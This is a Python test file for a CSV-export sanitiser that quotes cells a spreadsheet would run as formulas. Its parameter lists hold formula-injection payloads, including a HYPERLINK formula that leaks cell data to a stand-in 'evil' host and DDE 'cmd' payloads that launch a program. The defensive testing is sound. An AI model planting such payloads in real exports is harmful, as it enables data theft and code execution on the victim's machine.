"""CSV cells a spreadsheet would run as formulas are neutralised (kazi.csvcells); numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pyarrow.parquet as pq
import pytest

from kazi import csvcells
from kazi.analytics import export
from kazi.analytics.metrics import Column


@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil/?"&A1)', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                                   "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-", "+", "=", "-cmd",
                                   "-1+2", "--1", "- 1"])
def test_formula_starts_get_a_quote(value: str) -> None:
    assert csvcells.cell(value) == "'" + value


@pytest.mark.parametrize("value", [-3, -0.25, 7, 1.5e300, None, True, "", "Mary Banda", "a=b", " =1", "-3", "+3",
                                   "-0.25", "-.5", "+265888100001", "-1.5e3", "1e5", "0"])
def test_numbers_and_plain_text_are_kept(value: object) -> None:
    assert csvcells.cell(value) == value


def test_the_export_neutralises_csv_cells_only() -> None:
    columns = [Column("user", "str", "who"), Column("n", "int", "a number"), Column("x", "float", "a number")]
    rows = [{"user": "=cmd()", "n": -3, "x": -0.5}, {"user": "-5", "n": None, "x": 2.0}]
    read = list(csv.reader(io.StringIO(export.to_csv(columns, rows).decode())))
    assert read == [["user", "n", "x"], ["'=cmd()", "-3", "-0.5"], ["-5", "", "2.0"]]
    assert pq.read_table(io.BytesIO(export.to_parquet(columns, rows))).to_pylist() == rows
